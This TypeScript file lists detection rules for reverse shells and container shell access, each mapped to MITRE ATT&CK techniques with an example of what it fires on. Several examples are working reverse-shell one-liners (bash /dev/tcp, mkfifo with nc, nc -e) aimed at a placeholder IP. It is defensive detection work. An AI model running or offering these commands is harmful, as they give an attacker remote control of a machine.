// Rules of the theme shell: what stands beside `rules/30-shell.yaml`.
import type { RuleFacts } from '../rule-facts.ts';

export const shellRules: readonly RuleFacts[] = [
  {
    name: 'Standard stream tied to a network socket',
    maturity: 'stable',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'dup2(socket, 0) before exec',
  },
  {
    name: 'Shell started on a network connection',
    maturity: 'stable',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'a shell whose descriptor 0 is a TCP connection',
  },
  {
    name: 'Connection made on a standard stream',
    maturity: 'incubating',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'close(0); socket(); connect()',
  },
  {
    name: 'Connection accepted on a standard stream',
    maturity: 'incubating',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'close(0); accept()',
  },
  {
    name: 'Shell talks to the network by /dev/tcp',
    maturity: 'stable',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  },
  {
    name: 'Shell worked through a named pipe',
    maturity: 'stable',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f',
  },
  {
    name: 'One line of a script makes a shell on a socket',
    maturity: 'stable',
    techniques: ['T1059'],
    lesson: 'reverse-shell',
    firesOn: 'python3 -c "import socket,subprocess,os; ..."',
  },
  {
    name: 'Network tool told to run a program',
    maturity: 'stable',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'nc -e /bin/sh 203.0.113.9 4444',
  },
  {
    name: 'Terminal made for a shell without one',
    maturity: 'incubating',
    techniques: ['T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'python3 -c \'import pty; pty.spawn("/bin/bash")\'',
  },
  {
    name: 'Shell started by a network service',
    maturity: 'stable',
    techniques: ['T1190', 'T1505.003', 'T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'system() in a PHP page served by php-fpm',
  },
  {
    name: 'Shell started by a Java server',
    maturity: 'incubating',
    techniques: ['T1190', 'T1059.004'],
    lesson: 'reverse-shell',
    firesOn: 'Runtime.exec("sh -c ...") in a web application',
  },
  {
    name: 'Shell with a terminal attached to a container',
    maturity: 'stable',
    techniques: ['T1609', 'T1059.013'],
    lesson: 'hands-in-containers',
    firesOn: 'docker exec -it CONTAINER sh',
  },
];
